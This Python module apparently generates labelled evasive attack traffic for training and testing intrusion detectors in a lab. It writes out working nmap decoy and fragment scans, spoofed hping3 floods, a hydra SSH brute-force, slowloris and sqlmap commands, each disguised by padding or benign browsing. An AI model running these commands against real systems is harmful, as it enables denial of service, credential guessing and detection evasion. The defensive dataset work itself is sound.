"""Attacks that evade by their looks: padding, fragments, other TTLs and windows, decoys, and the attacker's own benign traffic.

Recorded as `evade` to test, and with other values as `harden` to train. A mode's name begins with its kind.
"""

# ruff: noqa: E501 - a command stands on one line, as one types it

from __future__ import annotations

from training.lab.attacks import Field, Run, mode
from training.lab.guessing import LABEL
from training.lab.more_floods import HOLD, RAW

KINDS = ("padding", "fragments", "stack", "decoys", "mixed")


def beside(f: Field, command: str, six: bool = False) -> str:
    """The command while the attacker also browses, looks up names, pings and signs in, as a user of the three servers does.

    What passes between attacker and victim then is labelled as attack, what goes to the other servers is benign.
    """
    pages = " ".join(f"{f.web()}/{name}" for name in ("p1.html", "i3.jpg", "i7.jpg", "s2.txt", "p5.html"))
    browse = f"while :; do curl -s -o /dev/null {pages.replace(' ', ' -o /dev/null ')}; sleep {f.hidden([0.4, 1], [0.2, 0.6, 2])}; done"
    ask = f"while :; do dig @{f.at('infra')} +short +tries=1 +time=1 {f.rng.choice(f.capture.zones)}; ping -c 2 -n {f.at('infra')}; sleep 1; done"
    sign = f"while :; do {ssh_with_key(f)}; sleep {f.hidden([2], [1, 3])}; done"
    return f"({browse}) >/dev/null 2>&1 & a=$!; ({ask}) >/dev/null 2>&1 & b=$!; ({sign}) >/dev/null 2>&1 & c=$!; {command}; kill $a $b $c"


def ssh_with_key(f: Field) -> str:
    """A right login at the file server."""
    v, number = f.login("ssh")
    return f"sshpass -p {f.capture.password} ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -p {number} {f.capture.user}@{v} 'ls /; sleep 0.5'"


# Padding


@mode("Port Scan", "evade")
def padding_scan(f: Field) -> Run:
    v = f.at(f.server)
    return (
        "nmap --data-length",
        f"nmap -n -Pn -sS -F --data-length {f.hidden([33, 400], [12, 120, 700])} --max-rate {f.hidden([40], [25, 90])} {v}",
        [v],
        16,
    )


@mode("SYN Flood", "evade")
def padding_syn(f: Field) -> Run:
    pause = f.hidden([1500, 4000], [1000, 2500])
    return (
        "hping3 -S -d, padded",
        f"hping3 -q -S -p {f.web_port} -i u{pause} -c {f.count(9, 1e6 / pause)} -d {f.hidden([300, 900], [40, 600, 1100])} {f.at('web')}",
        [f.at("web")],
        14,
    )


@mode("ICMP Flood", "evade")
def padding_icmp(f: Field) -> Run:
    v, rate = f.at(f.server), f.hidden([200], [150, 500])
    return (
        "rawflood.py icmp, padded",
        f"{RAW} icmp {v} --sources {f.at('att')} --sizes {f.hidden(['0-1100'], ['0-500', '500-1200'])} --rate {rate} --count {rate * 9}",
        [v],
        14,
    )


@mode("DNS Flood", "evade")
def padding_dns(f: Field) -> Run:
    names = [
        f"{'-'.join(f'{f.rng.randrange(16**4):x}' for _ in range(f.hidden([9], [4, 11])))}.{f.rng.choice(f.capture.zones)} {f.rng.choice(['A', 'TXT'])}"
        for _ in range(900)
    ]
    return (
        "dnsperf, long names",
        f"dnsperf -s {f.at('infra')} -d {f.list('names', names)} -Q {f.hidden([80], [60, 160])} -l 12 -e",
        [f.at("infra")],
        16,
    )


# Fragments


@mode("Port Scan", "evade")
def fragments_scan(f: Field) -> Run:
    v = f.at(f.server)
    return (
        "nmap -f",
        f"nmap -n -Pn -sS -F {f.hidden(['-f', '-f -f'], ['-f', '--mtu 24'])} --max-rate {f.hidden([50], [30, 100])} {v}",
        [v],
        16,
    )


@mode("OS Scan", "evade")
def fragments_os(f: Field) -> Run:
    host = f.server
    return (
        "nmap -O -f",
        f"nmap -n -Pn -O {f.hidden(['-f'], ['-f -f', '--mtu 16'])} --max-os-tries 2 -p {f.ports(host)[0]},{f.rng.randint(3000, 9000)} {f.at(host)}",
        [f.at(host)],
        22,
    )


@mode("UDP Flood", "evade")
def fragments_udp(f: Field) -> Run:
    v, pause = f.at(f.server), f.hidden([5000, 9000], [3000, 7000])
    return (
        "hping3 -2 -f",
        f"hping3 -q -2 -f -p {f.rng.randint(1000, 60000)} -i u{pause} -c {f.count(9, 1e6 / pause)} -d {f.hidden([60, 90], [40, 120])} {v}",
        [v],
        14,
    )


@mode("ICMP Flood", "evade")
def fragments_icmp(f: Field) -> Run:
    v, pause = f.at(f.server), f.hidden([5000], [4000, 8000])
    return "hping3 -1 -f", f"hping3 -q -1 -f -i u{pause} -c {f.count(9, 1e6 / pause)} -d {f.hidden([70], [48, 100])} {v}", [v], 14


# Other TTLs, windows and options


@mode("Port Scan", "evade")
def stack_scan(f: Field) -> Run:
    v = f.at(f.server)
    return (
        "hping3 -S -t -w",
        f"hping3 -q -S -p ++{f.rng.randint(1, 2000)} -t {f.hidden([13, 200], [33, 90, 240])} -w {f.hidden([3, 31337], [100, 14600, 65000])} -i u{f.hidden([15000], [10000, 30000])} -c 600 {v}",
        [v],
        14,
    )


@mode("SYN Flood", "evade", spoofed=True)
def stack_syn(f: Field) -> Run:
    look = f"--ttl 0 --window 0 --options {f.hidden(['linux'], ['windows', 'mss'])}"
    rate = f.hidden([150, 500], [100, 300])
    return (
        "rawflood.py syn, other TTLs and windows",
        f"{RAW} syn {f.at('web')} --sources random --ports {f.web_port} {look} --rate {rate} --count {rate * 9}",
        [f.at("web")],
        14,
    )


@mode("UDP Flood", "evade")
def stack_udp(f: Field) -> Run:
    v, pause = f.at(f.server), f.hidden([2500], [1800, 5000])
    return (
        "hping3 -2 -t",
        f"hping3 -q -2 -p {f.rng.randint(1000, 60000)} -t {f.hidden([9, 199], [40, 100, 222])} -i u{pause} -c {f.count(9, 1e6 / pause)} -d {f.hidden([333], [77, 555])} {v}",
        [v],
        14,
    )


@mode("OS Scan", "evade")
def stack_os(f: Field) -> Run:
    host = f.server
    v, opened, closed = f.at(host), f.ports(host)[0], f.rng.randint(30000, 60000)
    probes = [
        f"-S -p {opened} --tcp-timestamp",
        f"-S -F -U -P -p {opened}",
        f"-A -p {opened}",
        f"-S -p {closed}",
        f"-F -P -U -p {closed}",
        f"-2 -p {closed} -d 300",
        "-1 -C 13",
        "-1 -C 17",
    ]
    each = " ".join(
        f"timeout 2 hping3 -q -c 2 -i u150000 -t {f.hidden([21, 201], [44, 99])} -w {f.hidden([7, 30000], [2000, 50000])} {probe} {v};"
        for probe in probes
    )
    return "hping3 stack probes, other TTLs", each, [v], 24


# Decoys


@mode("Port Scan", "evade", spoofed=True)
def decoys_scan(f: Field) -> Run:
    v = f.at(f.server)
    return "nmap -D", f"nmap -n -Pn -sS -F -D RND:{f.hidden([5], [3, 8])} --max-rate {f.hidden([150], [100, 300])} {v}", [v], 16


@mode("Port Scan", "evade")
def decoys_neighbours(f: Field) -> Run:
    """Decoys that are there: the clients and devices of the network. Not trained on, for their own traffic is benign."""
    v = f.at("files")
    neighbours = ",".join([f.at("c1"), f.at("c2"), *f.rng.sample(f.devices(), f.hidden([2], [1, 4]))])
    return "nmap -D, neighbours", f"nmap -n -Pn -sS -F -D {neighbours},ME --max-rate {f.hidden([120], [60, 200])} {v}", [v], 16


@mode("OS Scan", "evade", spoofed=True)
def decoys_os(f: Field) -> Run:
    host = f.server
    return (
        "nmap -O -D",
        f"nmap -n -Pn -O -D RND:{f.hidden([4], [2, 7])} -p {f.ports(host)[0]},{f.rng.randint(3000, 9000)} {f.at(host)}",
        [f.at(host)],
        20,
    )


# The attacker's own benign traffic beside it


@mode("Port Scan", "evade")
def mixed_scan(f: Field) -> Run:
    victims = [f.at("web"), f.at("files"), f.at("infra")]
    return (
        "nmap -sT beside browsing",
        beside(
            f,
            f"nmap -n -Pn -sT --top-ports 60 --scan-delay {f.hidden(['200ms'], ['100ms', '350ms'])} --max-retries 0 {' '.join(victims)}",
        ),
        victims,
        24,
    )


@mode(LABEL, "evade")
def mixed_guess(f: Field) -> Run:
    v, number = f.login("ssh")
    return (
        "hydra ssh beside browsing",
        beside(f, f"timeout 18 hydra -I -L {f.users()} -P {f.passwords(60)} -t {f.hidden([2], [1, 4])} -s {number} {v} ssh"),
        [v],
        22,
    )


@mode("Slowloris", "evade")
def mixed_slow(f: Field) -> Run:
    return (
        "slowhold.py beside browsing",
        beside(
            f,
            f"{HOLD} headers {f.at('web')} {f.web_port} --sockets {f.hidden([40], [25, 90])} --pause {f.hidden([2], [1, 3])} --seconds 16",
        ),
        [f.at("web")],
        22,
    )


@mode("Vulnerability Scan", "evade")
def mixed_web(f: Field) -> Run:
    return (
        "sqlmap beside browsing",
        beside(
            f,
            f"timeout 16 sqlmap -u '{f.web()}/app/item?id=7' --batch --flush-session --level 2 --delay {f.hidden([0.3], [0.15, 0.5])} --output-dir {{work}}/sql",
        ),
        [f.at("web")],
        20,
    )


@mode("UDP Flood", "evade")
def mixed_udp(f: Field) -> Run:
    v, pause = f.at("infra"), f.hidden([8000], [5000, 15000])
    return (
        "hping3 -2 beside browsing",
        beside(
            f,
            f"hping3 -q -2 -p {f.rng.randint(1000, 60000)} -i u{pause} -c {int(12e6 / pause)} -d {f.hidden([150], [60, 400])} {v}",
        ),
        [v],
        18,
    )
